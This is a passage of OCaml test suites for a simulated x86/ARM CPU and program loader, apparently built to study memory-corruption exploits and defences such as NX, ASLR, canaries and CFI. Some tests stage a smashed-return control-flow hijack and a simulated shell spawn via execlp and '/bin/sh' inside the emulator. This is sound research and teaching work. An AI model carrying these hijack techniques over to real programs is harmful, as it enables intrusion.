      Asm.I (Push_m { base = None; disp = 0xBFFF_2004 });
      Asm.I (Pop_r EDX);
      Asm.I Hlt;
    ]
  in
  let mem, cpu, result = setup program in
  Mem.write_u32 mem 0xBFFF_2000 (Asm.symbol result "land");
  Mem.write_u32 mem 0xBFFF_2004 0xFEEDFACE;
  ignore (run cpu);
  check_int "jmp [mem] + push [mem]" 0xFEEDFACE (Cpu.get cpu EDX)

let test_all_condition_codes_roundtrip_and_hold () =
  let open Insn in
  (* For each condition: set flags with a cmp that makes it true and one
     that makes it false; the interpreter must agree with IA-32 tables. *)
  let cases =
    [
      (* cond, (a, b) making it true, (a', b') making it false *)
      (E, (5, 5), (5, 6));
      (NE, (5, 6), (5, 5));
      (B, (1, 2), (2, 1));
      (AE, (2, 1), (1, 2));
      (BE, (2, 2), (3, 2));
      (A, (3, 2), (2, 2));
      (L, (-1, 0), (0, -1));
      (GE, (0, -1), (-1, 0));
      (LE, (-1, -1), (0, -1));
      (G, (0, -1), (-1, -1));
      (S, (0, 1), (1, 0));
      (NS, (1, 0), (0, 1));
    ]
  in
  List.iter
    (fun (c, (ta, tb), (fa, fb)) ->
      let probe a b expected =
        let program =
          [
            Asm.I (Mov_ri (EAX, a));
            Asm.I (Mov_ri (ECX, b));
            Asm.I (Cmp (Reg EAX, Reg ECX));
            Asm.I (Mov_ri (EDX, 0));
            Asm.Jcc (c, "taken");
            Asm.I Hlt;
            Asm.Label "taken";
            Asm.I (Mov_ri (EDX, 1));
            Asm.I Hlt;
          ]
        in
        let _, cpu, _ = setup program in
        ignore (run cpu);
        check_int (Printf.sprintf "j%s %d?%d" (cond_name c) a b) expected
          (Cpu.get cpu EDX)
      in
      probe ta tb 1;
      probe fa fb 0)
    cases

let test_code_across_page_boundary () =
  (* Instructions straddling a page boundary must fetch correctly. *)
  let open Insn in
  let program =
    [ Asm.Bytes (String.make 4093 '\x90'); Asm.I (Mov_ri (EAX, 0x1234)); Asm.I Hlt ]
  in
  let _, cpu, _ = setup program in
  ignore (run ~fuel:10_000 cpu);
  check_int "mov across boundary" 0x1234 (Cpu.get cpu EAX)

let prop_assemble_disassemble_stream =
  (* Straight-line programs (no control flow) must round-trip through
     assemble → memory → linear-sweep disassembly. *)
  let straight =
    QCheck.Gen.(
      list_size (int_range 1 40)
        (oneof
           [
             map (fun r -> Insn.Push_r r) (oneofl all_regs);
             map (fun r -> Insn.Pop_r r) (oneofl all_regs);
             map2 (fun r i -> Insn.Mov_ri (r, i)) (oneofl all_regs)
               (int_bound 0xFFFFF);
             map2
               (fun d s -> Insn.Mov (Insn.Reg d, Insn.Reg s))
               (oneofl all_regs) (oneofl all_regs);
             return Insn.Nop;
             return Insn.Ret;
           ]))
  in
  QCheck.Test.make ~name:"assemble/disassemble stream identity" ~count:200
    (QCheck.make straight)
    (fun insns ->
      let program = List.map (fun i -> Asm.I i) insns in
      let mem = Mem.create () in
      let result = Asm.assemble ~base:0x1000 program in
      Mem.map mem ~base:0x1000
        ~size:(max 0x1000 (String.length result.Asm.code))
        ~perm:Mem.rx ~name:"t";
      Mem.poke_bytes mem 0x1000 result.Asm.code;
      let listing =
        Asm.disassemble mem ~base:0x1000 ~len:(String.length result.Asm.code)
      in
      List.map (fun (_, _, _, s) -> s) listing
      = List.map Insn.to_string insns)

(* --- assembler --- *)

let test_asm_labels_and_calls () =
  let open Insn in
  let program =
    [
      Asm.Label "main";
      Asm.I (Mov_ri (EAX, 0));
      Asm.Call "add_five";
      Asm.Call "add_five";
      Asm.I Hlt;
      Asm.Label "add_five";
      Asm.I (Add_i (Reg EAX, 5));
      Asm.I Ret;
    ]
  in
  let _, cpu, result = setup program in
  check_bool "symbols defined" true (Asm.symbol result "add_five" > Asm.symbol result "main");
  let outcome = run cpu in
  check_bool "halted" true (outcome = O.Halted);
  check_int "two calls executed" 10 (Cpu.get cpu EAX)

let test_asm_backward_jump_loop () =
  let open Insn in
  (* Sum 1..10 with a conditional backward jump. *)
  let program =
    [
      Asm.I (Mov_ri (EAX, 0));
      Asm.I (Mov_ri (ECX, 10));
      Asm.Label "loop";
      Asm.I (Add (Reg EAX, Reg ECX));
      Asm.I (Dec_r ECX);
      Asm.I (Cmp_i (Reg ECX, 0));
      Asm.Jcc (NE, "loop");
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "sum" 55 (Cpu.get cpu EAX)

let test_asm_word_sym_and_align () =
  let program =
    [
      Asm.I Insn.Hlt;
      Asm.Align 16;
      Asm.Label "table";
      Asm.Word 0x11223344;
      Asm.Word_sym "table";
      Asm.Bytes "/bin/sh\x00";
      Asm.Label "end";
    ]
  in
  let result = Asm.assemble ~base:0x1000 program in
  let table = Asm.symbol result "table" in
  check_int "aligned" 0 (table land 15);
  check_int "end" (table + 16) (Asm.symbol result "end");
  (* Word_sym points at table itself. *)
  let off = table - 0x1000 + 4 in
  let w =
    Char.code result.Asm.code.[off]
    lor (Char.code result.Asm.code.[off + 1] lsl 8)
    lor (Char.code result.Asm.code.[off + 2] lsl 16)
    lor (Char.code result.Asm.code.[off + 3] lsl 24)
  in
  check_int "word_sym resolved" table w

let test_asm_undefined_symbol () =
  Alcotest.check_raises "undefined" (Failure "Asm: undefined symbol nowhere")
    (fun () -> ignore (Asm.assemble ~base:0 [ Asm.Call "nowhere" ]))

let test_asm_duplicate_symbol () =
  Alcotest.check_raises "duplicate" (Failure "Asm: duplicate symbol a") (fun () ->
      ignore (Asm.assemble ~base:0 [ Asm.Label "a"; Asm.Label "a" ]))

(* --- interpreter semantics --- *)

let test_stack_push_pop () =
  let open Insn in
  let program =
    [
      Asm.I (Push_i 0x1111);
      Asm.I (Push_i 0x2222);
      Asm.I (Pop_r EAX);
      Asm.I (Pop_r EBX);
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  let sp0 = Cpu.get cpu ESP in
  ignore (run cpu);
  check_int "LIFO a" 0x2222 (Cpu.get cpu EAX);
  check_int "LIFO b" 0x1111 (Cpu.get cpu EBX);
  check_int "esp restored" sp0 (Cpu.get cpu ESP)

let test_cdecl_call_frame () =
  let open Insn in
  (* int add(a, b) { return a + b; } called as add(3, 4) — the cdecl
     convention the x86 exploits manipulate. *)
  let program =
    [
      Asm.I (Push_i 4);
      Asm.I (Push_i 3);
      Asm.Call "add";
      Asm.I (Add_i (Reg ESP, 8));
      Asm.I Hlt;
      Asm.Label "add";
      Asm.I (Push_r EBP);
      Asm.I (Mov (Reg EBP, Reg ESP));
      Asm.I (Mov (Reg EAX, Mem { base = Some EBP; disp = 8 }));
      Asm.I (Add (Reg EAX, Mem { base = Some EBP; disp = 12 }));
      Asm.I (Pop_r EBP);
      Asm.I Ret;
    ]
  in
  let _, cpu, _ = setup program in
  let sp0 = Cpu.get cpu ESP in
  let outcome = run cpu in
  check_bool "halted" true (outcome = O.Halted);
  check_int "sum" 7 (Cpu.get cpu EAX);
  check_int "caller cleaned stack" sp0 (Cpu.get cpu ESP)

let test_leave_epilogue () =
  let open Insn in
  let program =
    [
      Asm.Call "f";
      Asm.I Hlt;
      Asm.Label "f";
      Asm.I (Push_r EBP);
      Asm.I (Mov (Reg EBP, Reg ESP));
      Asm.I (Sub_i (Reg ESP, 0x40));
      Asm.I Leave;
      Asm.I Ret;
    ]
  in
  let _, cpu, _ = setup program in
  let sp0 = Cpu.get cpu ESP in
  let ebp0 = Cpu.get cpu EBP in
  ignore (run cpu);
  check_int "esp balanced" sp0 (Cpu.get cpu ESP);
  check_int "ebp restored" ebp0 (Cpu.get cpu EBP)

let test_new_arithmetic_semantics () =
  let open Insn in
  let program =
    [
      Asm.I (Mov_ri (EAX, 6));
      Asm.I (Mov_ri (ECX, 7));
      Asm.I (Imul (EAX, Reg ECX));
      Asm.I (Mov_ri (EBX, 5));
      Asm.I (Neg (Reg EBX));
      Asm.I (Mov_ri (EDX, 0));
      Asm.I (Not (Reg EDX));
      Asm.I (Push_i8 (-1));
      Asm.I (Pop_r ESI);
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "imul" 42 (Cpu.get cpu EAX);
  check_int "neg" (Word.of_int (-5)) (Cpu.get cpu EBX);
  check_int "not" 0xFFFFFFFF (Cpu.get cpu EDX);
  check_int "push imm8 sign-extends" 0xFFFFFFFF (Cpu.get cpu ESI)

let test_byte_ops_and_movzx () =
  let open Insn in
  let program =
    [
      Asm.I (Mov_ri (EAX, 0x11223344));
      Asm.I (Mov_ri (EDI, 0xBFFF_1000));
      Asm.I (Mov_b (Mem { base = Some EDI; disp = 0 }, EAX |> fun r -> Reg r));
      Asm.I (Movzx_b (EBX, Mem { base = Some EDI; disp = 0 }));
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "low byte stored and zero-extended" 0x44 (Cpu.get cpu EBX)

let test_flags_and_conditions () =
  let open Insn in
  let program =
    [
      Asm.I (Mov_ri (EAX, 5));
      Asm.I (Cmp_i (Reg EAX, 5));
      Asm.Jcc (E, "eq");
      Asm.I (Mov_ri (EBX, 0));
      Asm.I Hlt;
      Asm.Label "eq";
      Asm.I (Mov_ri (EBX, 1));
      (* Unsigned comparison: 2 < 0xFFFFFFFF. *)
      Asm.I (Mov_ri (EAX, 2));
      Asm.I (Cmp_i (Reg EAX, -1));
      Asm.Jcc (B, "below");
      Asm.I (Mov_ri (ECX, 0));
      Asm.I Hlt;
      Asm.Label "below";
      Asm.I (Mov_ri (ECX, 1));
      (* Signed comparison: 2 > -1. *)
      Asm.I (Cmp_i (Reg EAX, -1));
      Asm.Jcc (G, "greater");
      Asm.I (Mov_ri (EDX, 0));
      Asm.I Hlt;
      Asm.Label "greater";
      Asm.I (Mov_ri (EDX, 1));
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "jz taken" 1 (Cpu.get cpu EBX);
  check_int "jb unsigned" 1 (Cpu.get cpu ECX);
  check_int "jg signed" 1 (Cpu.get cpu EDX)

let test_syscall_dispatch () =
  let open Insn in
  let program = [ Asm.I (Mov_ri (EAX, 1)); Asm.I (Mov_ri (EBX, 42)); Asm.I (Int 0x80) ] in
  let _, cpu, _ = setup program in
  let kernel n cpu =
    check_int "vector" 0x80 n;
    match Cpu.get cpu EAX with
    | 1 -> O.Stop (O.Exited (Cpu.get cpu EBX))
    | _ -> O.Resume
  in
  let outcome = run ~kernel cpu in
  check_bool "exit(42)" true (outcome = O.Exited 42)

let test_fuel_exhaustion () =
  let program = [ Asm.Label "spin"; Asm.Jmp "spin" ] in
  let _, cpu, _ = setup program in
  let outcome = run ~fuel:1000 cpu in
  check_bool "hang detected" true (outcome = O.Fuel_exhausted)

let test_unmapped_eip_faults () =
  let program = [ Asm.I (Insn.Jmp_rm (Insn.Reg Insn.EAX)) ] in
  let _, cpu, _ = setup program in
  Cpu.set cpu Insn.EAX 0x5000_0000;
  match run cpu with
  | O.Fault f -> check_bool "unmapped" true (f.Mem.kind = Mem.Unmapped)
  | other -> Alcotest.failf "expected fault, got %s" (O.to_string other)

let test_nx_stack_blocks_execution () =
  (* Jumping to rw- stack memory must fault on fetch: the W⊕X mechanism. *)
  let program = [ Asm.I (Insn.Jmp_rm (Insn.Reg Insn.ESP)) ] in
  let _, cpu, _ = setup program in
  match run cpu with
  | O.Fault f -> check_bool "NX fault" true (f.Mem.kind = Mem.Perm_exec)
  | other -> Alcotest.failf "expected NX fault, got %s" (O.to_string other)

let test_illegal_instruction () =
  let program = [ Asm.Bytes "\x06" ] (* push es — outside the subset *) in
  let _, cpu, _ = setup program in
  match run cpu with
  | O.Decode_error { byte; _ } -> check_int "bad byte" 0x06 byte
  | other -> Alcotest.failf "expected SIGILL, got %s" (O.to_string other)

let test_ret_into_overwritten_address () =
  let open Insn in
  (* A hand-made "smashed return": overwrite the saved return address on the
     stack and observe the hijack — the primitive behind every exploit in
     the paper. *)
  let program =
    [
      Asm.Call "victim";
      Asm.I Hlt;
      (* never reached *)
      Asm.Label "victim";
      (* Overwrite [esp] (the saved return address) with &win. *)
      Asm.Mov_ri_sym (EAX, "win");
      Asm.I (Mov (Mem { base = Some ESP; disp = 0 }, Reg EAX));
      Asm.I Ret;
      Asm.Label "win";
      Asm.I (Mov_ri (EBX, 0x31337));
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "control-flow hijacked" 0x31337 (Cpu.get cpu EBX)

let test_cfi_blocks_smashed_return () =
  let open Insn in
  let program =
    [
      Asm.Call "victim";
      Asm.I Hlt;
      Asm.Label "victim";
      Asm.Mov_ri_sym (EAX, "win");
      Asm.I (Mov (Mem { base = Some ESP; disp = 0 }, Reg EAX));
      Asm.I Ret;
      Asm.Label "win";
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup ~cfi:true program in
  match run cpu with
  | O.Cfi_violation _ -> ()
  | other -> Alcotest.failf "expected CFI violation, got %s" (O.to_string other)

let test_cfi_allows_benign_calls () =
  let open Insn in
  let program =
    [
      Asm.Call "f";
      Asm.Call "f";
      Asm.I Hlt;
      Asm.Label "f";
      Asm.Call "g";
      Asm.I Ret;
      Asm.Label "g";
      Asm.I Ret;
    ]
  in
  let _, cpu, _ = setup ~cfi:true program in
  let outcome = run cpu in
  check_bool "benign nesting ok" true (outcome = O.Halted)

let test_disassemble_sweep () =
  let open Insn in
  let program = [ Asm.I Nop; Asm.I (Push_r EAX); Asm.I Ret ] in
  let mem, _, result = setup program in
  let listing =
    Asm.disassemble mem ~base:result.Asm.base
      ~len:(String.length result.Asm.code)
  in
  Alcotest.(check (list string))
    "sweep"
    [ "nop"; "push eax"; "ret" ]
    (List.map (fun (_, _, _, s) -> s) listing)

(* --- INC/DEC flag regressions --- *)

(* inc/dec must set OF at the signed extremes (and leave CF alone): a
   stale OF flips every signed Jcc that follows.  The xor before each
   inc/dec plants OF=0 so the old always-stale behavior is distinguishable. *)
let test_inc_overflow_sets_of () =
  let open Insn in
  let program =
    [
      Asm.I (Mov_ri (EAX, 0x7FFF_FFFF));
      Asm.I (Xor (Reg EBX, Reg EBX));  (* OF := 0 *)
      Asm.I (Inc_r EAX);  (* 0x7FFFFFFF + 1: SF=1, OF must become 1 *)
      Asm.Jcc (GE, "ge");  (* GE = (SF = OF) — taken only if OF updated *)
      Asm.I (Mov_ri (EDX, 0));
      Asm.I Hlt;
      Asm.Label "ge";
      Asm.I (Mov_ri (EDX, 1));
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "jge sees inc's OF" 1 (Cpu.get cpu EDX);
  check_bool "OF set" true cpu.Cpu.o_f

let test_dec_overflow_sets_of () =
  let open Insn in
  let program =
    [
      Asm.I (Mov_ri (EAX, 0x8000_0000));
      Asm.I (Xor (Reg EBX, Reg EBX));  (* OF := 0 *)
      Asm.I (Dec_r EAX);  (* 0x80000000 - 1: SF=0, OF must become 1 *)
      Asm.Jcc (L, "lt");  (* L = (SF <> OF) — taken only if OF updated *)
      Asm.I (Mov_ri (EDX, 0));
      Asm.I Hlt;
      Asm.Label "lt";
      Asm.I (Mov_ri (EDX, 1));
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "jl sees dec's OF" 1 (Cpu.get cpu EDX);
  check_bool "OF set" true cpu.Cpu.o_f

let test_inc_dec_preserve_cf () =
  let open Insn in
  let program =
    [
      (* 0 - 1 borrows: CF=1.  The following inc must not clear it. *)
      Asm.I (Mov_ri (EAX, 0));
      Asm.I (Sub_i (Reg EAX, 1));
      Asm.I (Inc_r EAX);
      Asm.Jcc (B, "cf_live");  (* B = CF *)
      Asm.I (Mov_ri (EDX, 0));
      Asm.I Hlt;
      Asm.Label "cf_live";
      Asm.I (Mov_ri (EDX, 1));
      (* And dec must not set a clear CF: 5 cmp 3 → CF=0. *)
      Asm.I (Mov_ri (EAX, 5));
      Asm.I (Cmp_i (Reg EAX, 3));
      Asm.I (Dec_r EAX);
      Asm.Jcc (AE, "cf_clear");  (* AE = not CF *)
      Asm.I (Mov_ri (ECX, 0));
      Asm.I Hlt;
      Asm.Label "cf_clear";
      Asm.I (Mov_ri (ECX, 1));
      Asm.I Hlt;
    ]
  in
  let _, cpu, _ = setup program in
  ignore (run cpu);
  check_int "inc preserved CF=1" 1 (Cpu.get cpu EDX);
  check_int "dec preserved CF=0" 1 (Cpu.get cpu ECX)

(* --- Self-modifying code through the decoded-instruction cache --- *)

(* A program that executes a function, rewrites the function's own bytes
   (text mapped rwx for the test), and executes it again: the second call
   must run the NEW bytes.  The stale-cache failure mode returns 8. *)
let selfmod_program =
  let open Insn in
  [
    Asm.I (Xor (Reg EAX, Reg EAX));
    Asm.Call "fn";
    (* Overwrite all four inc-eax bytes with NOPs. *)
    Asm.Mov_ri_sym (EDX, "fn");
    Asm.I (Mov_mi (Mem { base = Some EDX; disp = 0 }, 0x9090_9090));
    Asm.Call "fn";
    Asm.I Hlt;
    Asm.Label "fn";
    Asm.I (Inc_r EAX);
    Asm.I (Inc_r EAX);
    Asm.I (Inc_r EAX);
    Asm.I (Inc_r EAX);
    Asm.I Ret;
  ]

let run_selfmod ~icache =
  let mem = Mem.create () in
  let text_base = 0x0804_8000 in
  let result = Asm.assemble ~base:text_base selfmod_program in
  let size = max 0x1000 (String.length result.Asm.code) in
  Mem.map mem ~base:text_base ~size ~perm:Mem.rwx ~name:"text";
  Mem.poke_bytes mem text_base result.Asm.code;
  Mem.map mem ~base:0xBFFF_0000 ~size:0x10000 ~perm:Mem.rw ~name:"stack";
  let cpu = Cpu.create ~icache mem in
  Cpu.set cpu Insn.ESP 0xBFFF_F000;
  cpu.Cpu.eip <- text_base;
  let outcome = run cpu in
  check_bool "halted" true (outcome = O.Halted);
  cpu

let test_selfmod_invalidates_icache () =
  let cached = run_selfmod ~icache:true in
  check_int "second call ran the overwritten bytes" 4 (Cpu.get cached Insn.EAX);
  let uncached = run_selfmod ~icache:false in
  check_int "identical to uncached execution" (Cpu.get uncached Insn.EAX)
    (Cpu.get cached Insn.EAX);
  check_int "identical step counts" uncached.Cpu.steps cached.Cpu.steps

let () =
  let qt = QCheck_alcotest.to_alcotest in
  Alcotest.run "isa_x86"
    [
      ( "encoding",
        [
          Alcotest.test_case "known byte patterns" `Quick test_encode_known_bytes;
          Alcotest.test_case "pop-pop-pop-ret bytes" `Quick test_pop_pop_pop_ret_bytes;
          Alcotest.test_case "round-trip corpus" `Quick test_roundtrip_corpus;
          qt prop_encode_decode_roundtrip;
          qt prop_decoded_length_positive;
        ] );
      ( "assembler",
        [
          Alcotest.test_case "labels and calls" `Quick test_asm_labels_and_calls;
          Alcotest.test_case "backward jump loop" `Quick test_asm_backward_jump_loop;
          Alcotest.test_case "word_sym and align" `Quick test_asm_word_sym_and_align;
          Alcotest.test_case "undefined symbol" `Quick test_asm_undefined_symbol;
          Alcotest.test_case "duplicate symbol" `Quick test_asm_duplicate_symbol;
          Alcotest.test_case "disassemble sweep" `Quick test_disassemble_sweep;
          qt prop_assemble_disassemble_stream;
        ] );
      ( "interpreter",
        [
          Alcotest.test_case "push/pop LIFO" `Quick test_stack_push_pop;
          Alcotest.test_case "cdecl call frame" `Quick test_cdecl_call_frame;
          Alcotest.test_case "leave epilogue" `Quick test_leave_epilogue;
          Alcotest.test_case "new arithmetic ops" `Quick
            test_new_arithmetic_semantics;
          Alcotest.test_case "byte ops + movzx" `Quick test_byte_ops_and_movzx;
          Alcotest.test_case "flags and conditions" `Quick test_flags_and_conditions;
          Alcotest.test_case "ret imm + indirect calls" `Quick
            test_ret_imm_and_indirect_calls;
          Alcotest.test_case "push [mem] + jmp [mem]" `Quick
            test_push_m_and_jmp_rm_mem;
          Alcotest.test_case "all condition codes" `Quick
            test_all_condition_codes_roundtrip_and_hold;
          Alcotest.test_case "code across page boundary" `Quick
            test_code_across_page_boundary;
          Alcotest.test_case "syscall dispatch" `Quick test_syscall_dispatch;
          Alcotest.test_case "fuel exhaustion" `Quick test_fuel_exhaustion;
          Alcotest.test_case "unmapped eip faults" `Quick test_unmapped_eip_faults;
          Alcotest.test_case "NX stack blocks execution" `Quick
            test_nx_stack_blocks_execution;
          Alcotest.test_case "illegal instruction" `Quick test_illegal_instruction;
        ] );
      ( "control-flow hijack",
        [
          Alcotest.test_case "smashed return hijacks" `Quick
            test_ret_into_overwritten_address;
          Alcotest.test_case "CFI blocks smashed return" `Quick
            test_cfi_blocks_smashed_return;
          Alcotest.test_case "CFI allows benign calls" `Quick
            test_cfi_allows_benign_calls;
        ] );
      ( "flag regressions",
        [
          Alcotest.test_case "inc overflow sets OF" `Quick test_inc_overflow_sets_of;
          Alcotest.test_case "dec overflow sets OF" `Quick test_dec_overflow_sets_of;
          Alcotest.test_case "inc/dec preserve CF" `Quick test_inc_dec_preserve_cf;
        ] );
      ( "self-modifying code",
        [
          Alcotest.test_case "rewrite invalidates icache" `Quick
            test_selfmod_invalidates_icache;
        ] );
    ]
