(* Tests for the loader: layout, PLT/GOT, libc, ASLR, protections. *)

module Mem = Memsim.Memory
module O = Machine.Outcome
open Loader

let check_int = Alcotest.(check int)
let check_bool = Alcotest.(check bool)
let check_string = Alcotest.(check string)

(* A minimal x86 guest: copy "hi!" into .bss via memcpy@plt and return the
   bss address. *)
let x86_spec =
  let open Isa_x86 in
  let open Isa_x86.Insn in
  {
    Process.name = "mini-x86";
    imports = [ "memcpy"; "execlp"; "exit" ];
    bss_size = 0x1000;
    code =
      Process.X86_code
        [
          Asm.Label "main";
          Asm.I (Push_i 4);
          Asm.Push_sym "greeting";
          Asm.Push_sym "__bss_start";
          Asm.Call "memcpy@plt";
          Asm.I (Add_i (Reg ESP, 0xC));
          Asm.Mov_ri_sym (EAX, "__bss_start");
          Asm.I Ret;
          Asm.Label "spawn";
          (* execlp("sh", NULL) — creates the PLT entry §III-C needs. *)
          Asm.I (Push_i 0);
          Asm.Push_sym "sh_name";
          Asm.Call "execlp@plt";
          Asm.I Ret;
          Asm.Label "greeting";
          Asm.Bytes "hi!\x00";
          Asm.Label "sh_name";
          Asm.Bytes "sh\x00";
        ];
  }

let arm_spec =
  let open Isa_arm in
  let open Isa_arm.Insn in
  let i op = Asm.I (al op) in
  {
    Process.name = "mini-arm";
    imports = [ "memcpy"; "execlp"; "exit" ];
    bss_size = 0x1000;
    code =
      Process.Arm_code
        [
          Asm.Label "main";
          i (Push [ R4; LR ]);
          Asm.Ldr_sym (R0, "lit_bss");
          Asm.Ldr_sym (R1, "lit_greeting");
          i (Mov (R2, Imm 4));
          Asm.Bl_sym "memcpy@plt";
          Asm.Ldr_sym (R0, "lit_bss");
          i (Pop [ R4; PC ]);
          Asm.Label "spawn";
          i (Push [ R4; LR ]);
          Asm.Ldr_sym (R0, "lit_sh");
          i (Mov (R1, Imm 0));
          Asm.Bl_sym "execlp@plt";
          i (Pop [ R4; PC ]);
          Asm.Label "lit_bss";
          Asm.Word_sym "__bss_start";
          Asm.Label "lit_greeting";
          Asm.Word_sym "greeting";
          Asm.Label "lit_sh";
          Asm.Word_sym "sh_name";
          Asm.Label "greeting";
          Asm.Bytes "hi!\x00";
          Asm.Label "sh_name";
          Asm.Bytes "sh\x00";
        ];
  }

let boot ?(profile = Defense.Profile.wx) ?(seed = 1) spec =
  Process.boot spec ~profile ~seed

let test_x86_boot_and_call () =
  let p = boot x86_spec in
  let r = Process.call_named p ~entry:"main" ~args:[] in
  check_bool "halted" true (r.Process.outcome = O.Halted);
  check_int "returned bss" p.Process.layout.Layout.bss_base r.Process.ret;
  check_string "memcpy wrote through PLT" "hi!"
    (Mem.read_cstring p.Process.mem p.Process.layout.Layout.bss_base)

let test_arm_boot_and_call () =
  let p = boot arm_spec in
  let r = Process.call_named p ~entry:"main" ~args:[] in
  check_bool "halted" true (r.Process.outcome = O.Halted);
  check_string "memcpy wrote through PLT" "hi!"
    (Mem.read_cstring p.Process.mem p.Process.layout.Layout.bss_base)

let test_exec_outcome_x86 () =
  let p = boot x86_spec in
  let r = Process.call_named p ~entry:"spawn" ~args:[] in
  match r.Process.outcome with
  | O.Exec { path; args } ->
      check_string "path" "sh" path;
      check_bool "no args" true (args = []);
      check_bool "is shell" true (O.is_shell r.Process.outcome)
  | other -> Alcotest.failf "expected Exec, got %s" (O.to_string other)

let test_exec_outcome_arm () =
  let p = boot arm_spec in
  let r = Process.call_named p ~entry:"spawn" ~args:[] in
  check_bool "shell" true (O.is_shell r.Process.outcome)

let test_text_not_writable () =
  let p = boot x86_spec in
  match Mem.write_u8 p.Process.mem p.Process.layout.Layout.text_base 0 with
  | () -> Alcotest.fail "text should be write-protected"
  | exception Mem.Fault f -> check_bool "perm" true (f.Mem.kind = Mem.Perm_write)

let test_stack_nx_per_profile () =
  let nx = boot ~profile:Defense.Profile.wx x86_spec in
  let stack = Mem.find_region nx.Process.mem "stack" in
  check_bool "wx: stack not executable" false stack.Mem.perm.Mem.execute;
  let lax = boot ~profile:Defense.Profile.none x86_spec in
  let stack = Mem.find_region lax.Process.mem "stack" in
  check_bool "none: stack executable" true stack.Mem.perm.Mem.execute

let test_aslr_moves_libc_and_stack () =
  let profile = Defense.Profile.wx_aslr in
  let a = boot ~profile ~seed:11 x86_spec and b = boot ~profile ~seed:22 x86_spec in
  check_bool "libc differs across boots" true
    (a.Process.layout.Layout.libc_base <> b.Process.layout.Layout.libc_base);
  check_bool "stack differs across boots" true
    (a.Process.layout.Layout.stack_top <> b.Process.layout.Layout.stack_top);
  (* text/plt/bss are non-PIE: identical across boots. *)
  check_int "text fixed" a.Process.layout.Layout.text_base
    b.Process.layout.Layout.text_base;
  check_int "bss fixed" a.Process.layout.Layout.bss_base
    b.Process.layout.Layout.bss_base;
  check_int "plt fixed"
    (Process.symbol a "memcpy@plt")
    (Process.symbol b "memcpy@plt")

let test_aslr_deterministic_per_seed () =
  let profile = Defense.Profile.wx_aslr in
  let a = boot ~profile ~seed:7 x86_spec and b = boot ~profile ~seed:7 x86_spec in
  check_int "same seed, same libc"
    a.Process.layout.Layout.libc_base b.Process.layout.Layout.libc_base

let test_no_aslr_uses_static_bases () =
  let p = boot ~profile:Defense.Profile.wx x86_spec in
  check_int "static libc"
    (Layout.libc_base_static Arch.X86)
    p.Process.layout.Layout.libc_base;
  check_int "static stack top"
    (Layout.stack_top_static Arch.X86)
    p.Process.layout.Layout.stack_top

let test_got_filled_with_libc_addrs () =
  let p = boot x86_spec in
  let got = p.Process.layout.Layout.got_base in
  let memcpy_libc = Process.symbol p "memcpy" in
  check_int "got[0] resolves memcpy" memcpy_libc (Mem.read_u32 p.Process.mem got)

let test_canary_written () =
  let profile = Defense.Profile.(with_canary wx) in
  let p = boot ~profile ~seed:5 x86_spec in
  (match p.Process.layout.Layout.canary_value with
  | Some v ->
      check_int "cookie in tls" v
        (Mem.read_u32 p.Process.mem p.Process.layout.Layout.tls_base);
      check_int "low byte is NUL" 0 (v land 0xFF)
  | None -> Alcotest.fail "expected canary");
  let q = boot ~profile ~seed:6 x86_spec in
  check_bool "cookie differs per boot" true
    (p.Process.layout.Layout.canary_value <> q.Process.layout.Layout.canary_value)

let test_symbols_present () =
  let p = boot x86_spec in
  List.iter
    (fun s ->
      check_bool (s ^ " present") true (Process.symbol_opt p s <> None))
    [ "main"; "memcpy@plt"; "execlp@plt"; "memcpy"; "system"; "str_bin_sh";
      "__bss_start"; "__canary" ]

let test_bin_sh_lives_in_libc () =
  let p = boot x86_spec in
  let addr = Process.symbol p "str_bin_sh" in
  check_string "/bin/sh" "/bin/sh" (Mem.read_cstring p.Process.mem addr);
  match Mem.region_at p.Process.mem addr with
  | Some r -> check_string "region" "libc" r.Mem.name
  | None -> Alcotest.fail "unmapped"

let test_arm_plt_indirection () =
  let p = boot arm_spec in
  (* The ARM PLT stub's literal (entry+12) holds the GOT slot address and
     the slot holds the libc address. *)
  let stub = Process.symbol p "memcpy@plt" in
  let slot = Mem.read_u32 p.Process.mem (stub + 12) in
  check_int "slot in got range" p.Process.layout.Layout.got_base slot;
  check_int "slot resolves" (Process.symbol p "memcpy")
    (Mem.read_u32 p.Process.mem slot)

let test_all_imports_have_plt_and_got () =
  List.iter
    (fun spec ->
      let p = boot spec in
      List.iteri
        (fun i f ->
          let stub = Process.symbol p (f ^ "@plt") in
          let libc = Process.symbol p f in
          (* Stubs are laid out sequentially in .plt. *)
          check_bool (f ^ " stub in .plt") true
            (stub >= p.Process.layout.Layout.plt_base
            && stub < p.Process.layout.Layout.plt_base + p.Process.layout.Layout.plt_size);
          (* The i-th GOT slot resolves to the libc symbol. *)
          check_int (f ^ " got slot")
            libc
            (Mem.read_u32 p.Process.mem (p.Process.layout.Layout.got_base + (4 * i))))
        spec.Process.imports)
    [ x86_spec; arm_spec ]

let test_heap_and_env_regions () =
  let p = boot x86_spec in
  let heap = Mem.find_region p.Process.mem "heap" in
  check_bool "heap rw" true (heap.Mem.perm.Mem.write && not heap.Mem.perm.Mem.execute);
  check_int "heap base" p.Process.layout.Layout.heap_base heap.Mem.base;
  (* The env page above the stack carries realistic strings. *)
  let env =
    Mem.read_cstring p.Process.mem p.Process.layout.Layout.stack_top
  in
  check_string "env content" "SHELL=/bin/sh" env

let test_trap_is_unmapped () =
  let p = boot x86_spec in
  check_bool "trap outside every mapping" true
    (Mem.region_at p.Process.mem p.Process.trap = None)

let test_call_with_step_observer () =
  let p = boot x86_spec in
  let pcs = ref 0 in
  let r =
    Process.call p ~on_step:(fun _ -> incr pcs)
      ~entry:(Process.symbol p "main") ~args:[]
  in
  check_bool "halted" true (r.Process.outcome = Machine.Outcome.Halted);
  check_int "observer saw every instruction" r.Process.steps !pcs

let prop_entropy_distribution =
